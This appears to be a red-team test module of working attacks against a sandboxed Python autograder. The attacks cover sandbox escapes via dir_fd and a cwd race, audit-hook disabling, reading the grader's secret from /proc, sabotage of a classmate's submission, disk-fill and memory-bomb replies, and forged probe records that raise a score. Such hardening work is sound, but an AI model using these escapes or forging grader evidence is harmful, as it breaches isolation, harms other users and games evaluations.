"""Attacks of classes 3, 4, 5 and 6: path checks, classmates, the reply pipe, the probes' records.

Same layout as attacks_a.py.
"""

from _attacks_a import rel_error_attack
from _snippets import DIRFD, FILE_BATTERY, HOOK_OFF, LINGER, REPLY_FD, REPORT, TRIGGER

ATTACKS = {}

# ----------------------------------------------------------------------------------- class 3
ATTACKS["path_dirfd"] = {
    "klass": 3,
    "title": "Sidestep the path checks with dir_fd: the hook resolves relative paths against the cwd, not dir_fd",
    "route": "cwd = sandbox/rtdeep/... (k deep); os.open('../'*k, dir_fd=fd(sandbox)) is '/' to the kernel, the "
          "sandbox to the hook; then os.open('<abs path>'.lstrip('/'), dir_fd=root) reads and writes anywhere",
    "proves": ["secret_in_report", "solution_in_report", "victim_changed", "new_file"],
    "blocks": rel_error_attack(FILE_BATTERY + DIRFD + r'''

def _rt_escape():
    import os
    root = _rt_root_fd()

    def read(path):
        return _rt_slurp(path, root)

    def write(path, data, extra=os.O_TRUNC):
        fd = _rt_outside(path, os.O_WRONLY | extra, root)
        try:
            os.write(fd, data)
        finally:
            os.close(fd)

    return "root fd via dir_fd: " + _rt_file_battery(read, write, lambda p, d: write(p, d, os.O_CREAT | os.O_EXCL))
'''),
}

ATTACKS["path_cwd_race"] = {
    "klass": 3,
    "title": "TOCTOU on the working directory: the hook resolves against getcwd() at check time, the kernel later",
    "route": "thread B flips chdir(deep)/chdir(sandbox) (both allowed); thread A retries os.open('../'*k + target) "
          "until the hook checked it from the deep cwd (inside) and the kernel opened it from the sandbox (outside)",
    "proves": ["secret_in_report", "solution_in_report", "victim_changed"],
    "blocks": rel_error_attack(FILE_BATTERY + r'''

def _rt_escape():
    import os
    import sys
    import threading
    import time
    S = os.getcwd()
    depth = len([p for p in S.split("/") if p])
    deep = os.path.join(S, *(["rtrace"] * depth))
    os.makedirs(deep, exist_ok=True)
    up = "/".join([".."] * depth)
    stop = []
    tries = [0]
    deadline = time.monotonic() + 2.0  # the call has call_seconds = 3

    def flipper():
        while not stop:
            try:
                os.chdir(deep)
                os.chdir(S)
            except OSError:
                pass

    def raced(path, flags):
        rel = up + path  # from S: the target; from deep: <sandbox>/<path> (what the hook sees)
        while time.monotonic() < deadline:
            tries[0] += 1
            try:
                return os.open(rel, flags, 0o644)
            except (PermissionError, FileNotFoundError):
                continue
        raise RuntimeError("race lost %d times" % tries[0])

    def read(path):
        fd = raced(path, os.O_RDONLY)
        try:
            return os.read(fd, 1 << 20)
        finally:
            os.close(fd)

    def write(path, data):
        fd = raced(path, os.O_WRONLY | os.O_TRUNC)
        try:
            os.write(fd, data)
        finally:
            os.close(fd)

    old = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)
    t = threading.Thread(target=flipper, daemon=True)
    t.start()
    try:
        result = _rt_file_battery(read, write, lambda p, d: None)
    finally:
        stop.append(1)
        t.join()
        sys.setswitchinterval(old)
        os.chdir(S)
    return "cwd race (%d attempts): %s" % (tries[0], result)
'''),
}

ATTACKS["deputy_symlink_restart"] = {
    "klass": 3,
    "title": "Make the grader a confused deputy: a planted symlink and an undeletable sandbox, then a restart",
    "route": "hook off, submission/tuning.py -> symlink to the victim, chmod 0555 + FS_IMMUTABLE_FL on submission/, "
          "os._exit: the restart must not write through the link, and the locked folder must not outlive grading",
    "proves": ["victim_changed", "tmpdir_left"],
    "blocks": {"gradient_check.py": [("top", REPORT + r'''

def _rt_hook_off_closure():
    """The closure route of hook_off_forkexec_closure (symlinks are denied by the hook)."""
    import subprocess
    import sys
    for fn in (getattr(sys.modules.get("_posixsubprocess"), "fork_exec", None),
               getattr(subprocess, "_fork_exec", None)):
        code = getattr(fn, "__code__", None)
        for name, cell in zip(getattr(code, "co_freevars", ()), getattr(fn, "__closure__", None) or ()):
            if name == "deny":
                cell.cell_contents = lambda *a, **k: None


def _rt_lock(path):
    """chmod 0555 (a non-root grader cannot empty it) and FS_IMMUTABLE_FL (neither can root)."""
    import fcntl
    import os
    import struct
    os.chmod(path, 0o555)
    fd = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
    try:  # FS_IOC_GETFLAGS / FS_IOC_SETFLAGS
        flags = struct.unpack("i", fcntl.ioctl(fd, 0x80086601, bytes(8))[:4])[0]
        fcntl.ioctl(fd, 0x40086602, struct.pack("i", flags | 0x10) + bytes(4))
        return "immutable"
    except OSError as exc:
        return "chmod only (%s)" % exc
    finally:
        os.close(fd)


def _rt_deputy():
    import os
    here = os.getcwd()
    sub = os.path.join(here, "submission")
    slot = os.path.join(sub, "tuning.py")
    if not _rt_root_ok(here) or not os.path.isfile(slot) or os.path.islink(slot):
        return
    _rt_hook_off_closure()
    _rt_clear_violations()
    os.unlink(slot)
    os.symlink(RT["sentinel"] + "/victim.txt", slot)
    _rt_lock(sub)
    os._exit(0)  # the next call restarts us: does the grader write through the link, and remove the folder?
'''), ("start:rel_error", "if _rt_direct_call():  # ATTACK: see _rt_deputy above\n    _rt_deputy()\n")]},
}

ATTACKS["path_fspath_two_faced"] = {
    "klass": 3,
    "title": "Control case: a path object that tells the hook one thing and the kernel another",
    "route": "PurePath.__fspath__ answers /dev/null to the policy and the real target to open(); open() converts the "
          "path before auditing, so the hook sees the real target (contained by today's hook too)",
    "proves": ["secret_in_report", "solution_in_report", "victim_changed", "new_file"],
    "blocks": rel_error_attack(FILE_BATTERY + r'''

def _rt_escape():
    import pathlib
    import sys
    original = pathlib.PurePath.__fspath__

    def two_faced(self):
        caller = sys._getframe(1).f_code.co_filename
        if caller != __file__:
            return "/dev/null"  # what the hook (or anything else) is told
        return original(self)  # what open() hands to the kernel, called from this file

    pathlib.PurePath.__fspath__ = two_faced
    try:
        def read(path):
            with open(pathlib.PosixPath(path), "rb") as fh:
                return fh.read()

        def write(path, data):
            with open(pathlib.PosixPath(path), "wb") as fh:
                fh.write(data)

        def create(path, data):
            with open(pathlib.PosixPath(path), "xb") as fh:
                fh.write(data)

        return "two-faced path: " + _rt_file_battery(read, write, create)
    finally:
        pathlib.PurePath.__fspath__ = original
'''),
}

ATTACKS["proc_grader_environ"] = {
    "klass": 3,
    "title": "Read /proc of the grader: its environment (with a secret) and command line",
    "route": "the root descriptor of path_dirfd opens proc/<getppid()>/environ (the hook checks <sandbox>/proc/...); "
          "then, hook off, every /proc/<pid>/environ is scanned for the grader's LINCLASS_RT_GRADER_SECRET",
    "proves": ["grader_secret_in_report"],
    "blocks": rel_error_attack(DIRFD + HOOK_OFF + r'''

def _rt_escape():
    import os
    ev = []
    key = b"LINCLASS_RT_GRADER_SECRET="
    ppid = os.getppid()

    def secret_in(data):
        return [i.partition(b"=")[2].decode() for i in data.split(b"\0") if i.startswith(key)]

    try:  # 1. pure Python: the dir_fd route
        root = _rt_root_fd()
        ev.append("dir_fd: grader %d secret %s" % (ppid, secret_in(_rt_slurp("/proc/%d/environ" % ppid, root))))
        cmd = _rt_slurp("/proc/%d/cmdline" % ppid, root).replace(b"\0", b" ").decode(errors="replace")
        ev.append("cmdline %s" % cmd[:200])
    except OSError as exc:
        ev.append("dir_fd: %s" % exc)
    hits = _rt_hook_off()  # 2. hook off: every process /proc shows
    found, seen, errors = [], 0, 0
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError as exc:
        pids = []
        ev.append("no /proc listing: %s" % exc)
    for pid in pids:
        try:
            with open("/proc/%s/environ" % pid, "rb") as fh:
                data = fh.read()
            seen += 1
        except OSError:
            errors += 1
            continue
        found += [(pid, s) for s in secret_in(data)]
    ev.append("hook cells %d; %d environments read (%d refused); secrets %s" % (hits, seen, errors, found[:3]))
    return "; ".join(ev)
'''),
}

ATTACKS["link_outside"] = {
    "klass": 3,
    "title": "Write outside the sandbox through links planted inside it (a hard link and a symlink)",
    "route": "hook off, os.link(victim, sandbox/rt-hard) then open('rt-hard', 'r+'); os.symlink(sentinel/new-..., "
          "sandbox/rt-soft) then open('rt-soft', 'w'): both open a path inside the sandbox",
    "proves": ["victim_changed", "new_file"],
    "blocks": rel_error_attack(HOOK_OFF + r'''

def _rt_escape():
    import os
    hits = _rt_hook_off()
    S, here, tag = RT["sentinel"], os.getcwd(), RT["tag"]
    ev = ["hook cells %d" % hits]

    def step(key, fn):
        try:
            got = fn()
            ev.append(key + "=" + (got if isinstance(got, str) else "ok"))
        except BaseException as exc:  # noqa: BLE001
            ev.append(key + ":FAILED(" + type(exc).__name__ + ": " + str(exc)[:60] + ")")

    def hard():
        victim = S + "/victim.txt"
        if not _rt_root_ok(victim):
            raise RuntimeError("not armed")
        os.link(victim, os.path.join(here, "rt-hard"))
        with open(os.path.join(here, "rt-hard"), "r+") as fh:
            fh.write("PWNED by %s %s via a hard link\n" % (RT["name"], tag))
            fh.truncate()

    def soft():
        target = "%s/new-%s-%s.txt" % (S, RT["name"], tag)
        if not _rt_root_ok(target):
            raise RuntimeError("not armed")
        os.symlink(target, os.path.join(here, "rt-soft"))
        with open(os.path.join(here, "rt-soft"), "w") as fh:
            fh.write("created through a symlink\n")

    step("hardlink", hard)
    step("symlink", soft)
    return " ".join(ev)
'''),
}

# ----------------------------------------------------------------------------------- class 4
WATCH = r'''
import os as _rt_os
import threading as _rt_threading
import time as _rt_time

_RT_FOUND = []
_RT_ERRORS = []


def _rt_watch(seconds, act):
    """Watch the run's TMPDIR for the other linclass-sandbox-* folders (not red-team ones) and act on each."""
    os = _rt_os
    tmp = str(RT.get("tmp") or "")
    if not _rt_root_ok(tmp + "/x"):
        return
    try:
        root = _rt_root_fd()
        tmp_fd = _rt_outside(tmp, os.O_RDONLY | os.O_DIRECTORY, root)
    except OSError as exc:
        _RT_ERRORS.append("the watcher could not open TMPDIR: %s" % exc)
        return
    mine = os.getcwd()
    deadline = _rt_time.time() + seconds
    while _rt_time.time() < deadline:
        try:
            names = [n for n in os.listdir(tmp_fd) if n.startswith("linclass-sandbox-") and tmp + "/" + n != mine]
        except OSError:
            names = []
        for n in names:
            try:
                if not _rt_red_team(root, "%s/%s" % (tmp, n)):
                    act(root, "%s/%s" % (tmp, n))
            except (OSError, ValueError, KeyError, IndexError):
                continue
        _rt_time.sleep(0.002)


_RT_RED = {}


def _rt_red_team(root, sandbox):
    """Is the submission in ``sandbox`` one of ours (an RT-CONFIG line in any module)? Those are left alone."""
    if sandbox not in _RT_RED:
        seen = []
        for module in ("gradient_check", "linear_svm", "softmax", "linear_classifier", "tuning"):
            try:
                seen.append(b"RT-CONFIG" in _rt_slurp("%s/submission/%s.py" % (sandbox, module), root))
            except OSError:
                return True  # not written yet: look again later
        _RT_RED[sandbox] = any(seen)
    return _RT_RED[sandbox]


def _rt_start_watch(act):
    try:
        _rt_threading.Thread(target=_rt_watch, args=(120.0, act), daemon=True).start()
    except BaseException:  # noqa: BLE001
        pass
'''

TAMPER = r'''
_RT_TAMPER = """

# tampered-by-redteam
_rt_honest_naive, _rt_honest_vectorized = svm_loss_naive, svm_loss_vectorized


def svm_loss_naive(W, X, y, reg):
    loss, dW = _rt_honest_naive(W, X, y, reg)
    return 2.0 * loss + 1.0, -dW


def svm_loss_vectorized(W, X, y, reg):
    loss, dW = _rt_honest_vectorized(W, X, y, reg)
    return 2.0 * loss + 1.0, -dW
"""
_RT_KICKED = set()


def _rt_tamper(root, sandbox):
    """Append a sabotage to the classmate's linear_svm.py; if its process already loaded it, break its wire."""
    import json
    os = _rt_os
    target = sandbox + "/submission/linear_svm.py"
    src = _rt_slurp(target, root)
    if b"tampered-by-redteam" in src or b"def svm_loss_vectorized" not in src:
        return
    fd = _rt_outside(target, os.O_WRONLY | os.O_APPEND, root)
    os.write(fd, _RT_TAMPER.encode())
    os.close(fd)
    _RT_FOUND.append(sandbox)
    proc_fd = _rt_outside("/proc", os.O_RDONLY | os.O_DIRECTORY, root)
    try:
        for pid in os.listdir(proc_fd):
            if not pid.isdigit() or pid in _RT_KICKED:
                continue
            try:
                if os.readlink("%s/cwd" % pid, dir_fd=proc_fd) != sandbox:
                    continue
                cmd = _rt_slurp("/proc/%s/cmdline" % pid, root).split(b"\0")
                cfg = json.loads(cmd[-2] if cmd[-1] == b"" else cmd[-1])
                rep = _rt_outside("/proc/%s/fd/%d" % (pid, cfg["rep_fd"]), os.O_WRONLY, root)
                os.write(rep, b"NOT A FRAME, love, your classmate")
                os.close(rep)
                _RT_KICKED.add(pid)
            except (OSError, ValueError, KeyError, IndexError):
                continue
    finally:
        os.close(proc_fd)


_rt_start_watch(_rt_tamper)
'''

ATTACKS["classmate_tamper"] = {
    "klass": 4,
    "title": "Reach a classmate in a --jobs 2 batch: rewrite its linear_svm.py in its sandbox and break its reply pipe",
    "route": "a thread started at import (dir_fd root descriptor) watches TMPDIR/linclass-sandbox-*, appends a "
          "sabotage to the classmate's submission/linear_svm.py and writes garbage into /proc/<its child>/fd/<rep_fd>",
    "proves": ["classmate_harmed"],
    "needs_batch": True,
    "blocks": {"linear_svm.py": [("top", REPORT + DIRFD + WATCH + TAMPER + LINGER)],
            "softmax.py": [("top", LINGER)], "linear_classifier.py": [("top", LINGER)],
            "tuning.py": [("top", LINGER)]},
}

READ = r'''
def _rt_read_classmate(root, sandbox):
    """Collect the lines of the classmate's files that carry its token."""
    for module in ("gradient_check", "linear_svm", "softmax", "linear_classifier", "tuning"):
        try:
            src = _rt_slurp("%s/submission/%s.py" % (sandbox, module), root)
        except OSError:
            continue
        for line in src.splitlines():
            if b"classmate-token" in line and line.strip().decode() not in _RT_FOUND:
                _RT_FOUND.append(line.strip().decode())


_rt_start_watch(_rt_read_classmate)


def _rt_escape():
    import time
    deadline = time.time() + (2.0 if RT.get("batch") else 0.0)
    while not _RT_FOUND and time.time() < deadline:
        time.sleep(0.05)
    return "classmates' files read: %s %s" % (_RT_FOUND[:4] or "none seen", _RT_ERRORS[:2])
'''

ATTACKS["classmate_read"] = {
    "klass": 4,
    "title": "Read a classmate's submission in a --jobs 2 batch and put its private token in our own report",
    "route": "the watcher of classmate_tamper reads every module in the other TMPDIR/linclass-sandbox-*/submission/ "
          "(dir_fd root descriptor) and rel_error's error message carries the lines it found",
    "proves": ["classmate_secret_in_report"],
    "needs_batch": True,
    "blocks": {"gradient_check.py": [("top", REPORT + DIRFD + WATCH + READ + LINGER), ("start:rel_error", TRIGGER)],
            "linear_svm.py": [("top", LINGER)], "softmax.py": [("top", LINGER)],
            "linear_classifier.py": [("top", LINGER)]},
}

ATTACKS["tmpdir_fill"] = {
    "klass": 4,
    "title": "Fill the grader's TMPDIR, shared by every classmate's sandbox: RLIMIT_FSIZE is per file",
    "route": "from rel_error, posix_fallocate 8 MB files into our own sandbox (allowed by the hook) up to RT['fill_mb'] "
          "= 600 MB: the sandbox lives in the grader's TMPDIR, so classmates' sandboxes and reports share that disk",
    "proves": ["tmpdir_usage"],
    "blocks": rel_error_attack(r'''

def _rt_escape():
    import os
    import time
    mb = int(RT.get("fill_mb") or 0)
    if mb <= 0 or not _rt_root_ok(RT["sentinel"] + "/x"):
        return "not armed"
    here = os.getcwd()
    written, files, deadline, err = 0, 0, time.monotonic() + 2.0, ""
    try:
        while written < mb and time.monotonic() < deadline:
            fd = os.open(os.path.join(here, "rt-fill-%04d.bin" % files), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
            try:
                os.posix_fallocate(fd, 0, 8 << 20)
            finally:
                os.close(fd)
            files += 1
            written += 8
    except OSError as exc:
        err = "; stopped by %s" % exc
    time.sleep(0.6)  # let the test's sampler see it
    return "filled %d MB in %d files under %s%s" % (written, files, here, err)
'''),
}

# ----------------------------------------------------------------------------------- class 5
ATTACKS["reply_bomb_json"] = {
    "klass": 5,
    "title": "Make the grader hold GBs with one valid JSON reply frame of 28M empty lists (84 MB on the wire)",
    "route": "os.write(rep_fd, b'LCW1' + len + 0 blobs + '{\"ok\":true,\"value\":[[],[],...]}') from rel_error, "
          "streamed from a 1 MB buffer, then os._exit; json.loads amplifies it ~45x in the grader",
    "proves": ["grader_memory", "grader_failed"],
    "blocks": rel_error_attack(REPLY_FD + r'''
_RT_ITEMS = 28_000_000


def _rt_escape():
    import os
    import struct
    fd = _rt_reply_fd()
    head, tail = b'{"ok":true,"value":[', b"[]]}"
    chunk_items = 1 << 18
    chunk = b"[]," * chunk_items
    n_chunks, rest = divmod(_RT_ITEMS - 1, chunk_items)
    body_len = len(head) + n_chunks * len(chunk) + 3 * rest + len(tail)
    try:
        os.write(fd, struct.pack(">4sII", b"LCW1", body_len, 0))
        os.write(fd, head)
        for _ in range(n_chunks):
            view = memoryview(chunk)
            while view:
                view = view[os.write(fd, view):]
        os.write(fd, b"[]," * rest + tail)
    except OSError as exc:
        return "the grader stopped reading: %s" % exc
    os._exit(0)
'''),
}

ATTACKS["reply_bomb_blob"] = {
    "klass": 5,
    "title": "Make the grader hold GBs with one announced 700 MB blob, streamed from a 1 MB buffer",
    "route": "os.write(rep_fd, header(json, 1 blob) + u64(700 MB) + zeros...) from rel_error: the reader buffers and "
          "copies the frame (fixed since: each reply's size is capped by its request)",
    "proves": ["grader_memory", "grader_failed"],
    "blocks": rel_error_attack(REPLY_FD + r'''
_RT_BLOB = 700 << 20


def _rt_escape():
    import os
    import struct
    fd = _rt_reply_fd()
    payload = b'{"ok":true,"value":{"$":"nd","b":0}}'
    chunk = bytes(1 << 20)
    left = _RT_BLOB
    try:
        os.write(fd, struct.pack(">4sII", b"LCW1", len(payload), 1) + payload + struct.pack(">Q", _RT_BLOB))
        while left:
            view = memoryview(chunk)[:min(left, len(chunk))]
            left -= len(view)
            while view:
                view = view[os.write(fd, view):]
    except OSError as exc:
        return "the grader stopped reading: %s" % exc
    os._exit(0)
'''),
}

BOMB_INDEX = r'''
def _rt_bomb(model, X, y):
    """Under the digits training probe: make the recorded first minibatch millions of uint8 row indices.

    The reply stays under its budget (4 x the request's arrays + 1 MiB), but the grader recomputes the
    step with X[rows]: 65 float64 columns per one-byte index, ~2 GB, then the probe loss on it.
    """
    import numpy
    loss = getattr(type(model), "loss", None)
    cells = dict(zip(getattr(getattr(loss, "__code__", None), "co_freevars", ()),
                     getattr(loss, "__closure__", None) or ()))
    if "trace" not in cells or not RT.get("root") or X.shape[0] < 1000:
        return
    trace = cells["trace"].cell_contents
    if not trace.get("W_seen") or "batches" not in trace:
        return
    budget = 4 * (X.nbytes + numpy.asarray(y).nbytes) + (1 << 20) - (64 << 10)
    trace["batches"] = [numpy.zeros(budget, dtype=numpy.uint8)]
    trace["W_seen"] = [numpy.asarray(trace["W_seen"][0], dtype=numpy.float16)]
'''

ATTACKS["reply_bomb_index"] = {
    "klass": 5,
    "title": "A small valid reply that the grader amplifies: the training probe's minibatch rows as millions of uint8",
    "route": "type(self).loss.__closure__ gives the probe's trace; on the digits run, trace['batches'] = [3.7M zeros "
          "(uint8)], under the 3.8 MB reply budget; test_learns_digits computes X[rows] (3.7M x 65 float64, ~2 GB)",
    "proves": ["grader_memory"],
    "minimal": {"expect": [], "note": "the grader's own memory does not depend on the sandbox level: a reply must "
                                      "be validated (or its derived work bounded) before the grader computes with it"},
    "blocks": {"linear_classifier.py": [("before:LinearClassifier", BOMB_INDEX),
                                     ("end:LinearClassifier.train", "_rt_bomb(self, X, y)  # ATTACK: see _rt_bomb\n")]},
}

ATTACKS["reply_zero_itemsize"] = {
    "klass": 5,
    "title": "A reply blob of dtype S0 (itemsize 0) makes the grader's wire raise ValueError, not WireError",
    "route": "from rel_error, write our own reply frame {'$': 'nd'} of dtype '|S0', shape (10**12,) and no data "
          "(0 == 10**12 * 0 bytes), drop the harness's reply: np.frombuffer would raise ValueError in the wire's "
          "decoder, an internal error of the grader",
    "proves": ["internal_error", "grader_failed"],
    "blocks": rel_error_attack(REPLY_FD + r'''

def _rt_escape():
    import os
    import struct
    fd = _rt_reply_fd()
    blob = b""
    payload = (b'{"$":"dict","items":[["ok",true],["value",{"$":"nd","b":0,"t":"|S0","s":[1000000000000]}]]}')
    frame = struct.pack(">4sII", b"LCW1", len(payload), 1) + payload + struct.pack(">Q", len(blob)) + blob
    os.write(fd, frame)
    wire = _rt_wire()
    original = wire.write_all

    def swallow_once(target, data):
        wire.write_all = original
        if target != fd:
            original(target, data)

    wire.write_all = swallow_once
    return "zero-itemsize frame sent"
'''),
}

# ----------------------------------------------------------------------------------- class 6
FORGE_TRAIN = r'''
def _rt_forge_batches(model, X, batch_size, num_iters, seed):
    """Only under the minibatch-sampling probes (8 steps of 10 or 50 rows): rewrite the recorded batches."""
    import numpy
    loss = getattr(type(model), "loss", None)
    cells = dict(zip(getattr(getattr(loss, "__code__", None), "co_freevars", ()),
                     getattr(loss, "__closure__", None) or ()))
    if "trace" not in cells or num_iters != 8 or batch_size not in (10, 50):
        return
    trace = cells["trace"].cell_contents
    if "batches" in trace:
        fake = numpy.random.default_rng(seed)
        trace["batches"] = [fake.integers(0, X.shape[0], batch_size) for _ in trace["batches"]]
'''

ATTACKS["forge_train_closure"] = {
    "klass": 6,
    "title": "Forge the training probe's record: a train that always uses the first rows rewrites trace['batches']",
    "route": "type(self).loss.__closure__ holds the probe's `trace` dict; only in the sampling probes (num_iters 8, "
          "batch_size 10/50) the batches are replaced by seeded random rows: minibatch_sampling passes (+2)",
    "proves": ["score_gain"],
    "baseline": "mutant:sgd_first_rows_only:LinearClassifier.train",
    "baseline_note": "the one-bug mutant whose train always takes the first batch_size rows (loses minibatch_sampling)",
    "minimal": {"expect": [], "note": "forged in-process records are a grader-side matter: the score must not "
                                      "depend on evidence the student process produced, at any sandbox level"},
    "blocks": {"linear_classifier.py": [("before:LinearClassifier", FORGE_TRAIN),
                                     ("end:LinearClassifier.train",
                                      "_rt_forge_batches(self, X, batch_size, num_iters, seed)  # ATTACK\n")]},
}

FORGE_TUNE = r'''
def _rt_forge_tune(model_cls, X_train, y_train, X_val, y_val, learning_rates, regularization_strengths):
    """Under the grader's probe model: read each pair's designed W from ProbeModel.train's closure and return
    what a fresh-model-per-pair search would have returned (the search itself reused one model)."""
    train = getattr(model_cls, "train", None)
    cells = dict(zip(getattr(getattr(train, "__code__", None), "co_freevars", ()),
                     getattr(train, "__closure__", None) or ()))
    if "table" not in cells:
        return None
    table = cells["table"].cell_contents
    results, best, best_val = {}, None, -1.0
    for lr in learning_rates:
        for reg in regularization_strengths:
            W = table[(float(lr), float(reg))]
            tr = float(np.mean(np.argmax(X_train @ W, axis=1) == y_train))
            va = float(np.mean(np.argmax(X_val @ W, axis=1) == y_val))
            results[(lr, reg)] = (tr, va)
            if va > best_val:
                best, best_val = W, va

    class Chosen:
        pass

    chosen = Chosen()
    chosen.W = np.array(best, copy=True)
    return chosen, best_val, results
'''

FORGE_TUNE_CALL = ("forged = _rt_forge_tune(model_cls, X_train, y_train, X_val, y_val, learning_rates,\n"
                   "                        regularization_strengths)  # ATTACK: see _rt_forge_tune\n"
                   "if forged is not None:\n    return forged\n")

ATTACKS["forge_tune_closure"] = {
    "klass": 6,
    "title": "Forge the tuning probe's answer: a search that reuses one model reads the designed weights from the "
          "probe model's closure",
    "route": "model_cls.train.__closure__ holds `table` ((lr, reg) -> designed W); the buggy search recomputes results "
          "and the best pair from it and returns a stand-in model with that W",
    "proves": ["score_gain"],
    "baseline": "mutant:tune_reuses_model:tune_hyperparameters",
    "baseline_note": "the one-bug mutant whose tune_hyperparameters trains one model for the whole grid",
    "blocks": {"tuning.py": [("before:tune_hyperparameters", FORGE_TUNE),
                          ("end:tune_hyperparameters", FORGE_TUNE_CALL)]},
}

FORGE_FRAME = REPLY_FD + r'''
def _rt_forge_frame(model_cls, best_model, results):
    """Under the probe: write a reply that claims the training-selected model was the best on
    validation (its row of the table rewritten so that it is), and drop the real one."""
    if getattr(model_cls, "__name__", "") != "ProbeModel" or not results or _rt_wire() is None:
        return
    top = max(val for _train, val in results.values())
    chosen = max(results, key=lambda p: results[p][0])
    claimed = {pair: (train, val if pair != chosen else min(1.0, top + 0.05))
               for pair, (train, val) in results.items()}
    reply = {"ok": True, "value": {"best_W": np.array(best_model.W, copy=True), "best_val": claimed[chosen][1],
                                   "results": claimed},
             "child_seconds": 0.01, "inputs_after": None, "inputs_changed": [False] * 7, "violations": []}
    _rt_send_instead(reply)
'''

ATTACKS["forge_reply_frame"] = {
    "klass": 6,
    "title": "Lie on the wire instead of in a record: a search that selects by training accuracy writes its own "
          "probe_tune reply frame, claiming its pick was the best on validation",
    "route": "under the probe (model_cls is ProbeModel) the search writes {ok, value: {best_W, best_val, results}} on "
          "rep_fd (argv names it), with its pick's validation accuracy raised above every other, and drops the "
          "harness's real reply once",
    "proves": ["score_gain"],
    "baseline": "mutant:tune_selects_by_train:tune_hyperparameters",
    "baseline_note": "the one-bug mutant whose tune_hyperparameters selects by training accuracy",
    "blocks": {"tuning.py": [("before:tune_hyperparameters", FORGE_FRAME),
                          ("end:tune_hyperparameters", "_rt_forge_frame(model_cls, best_model, results)  # ATTACK\n")]},
}
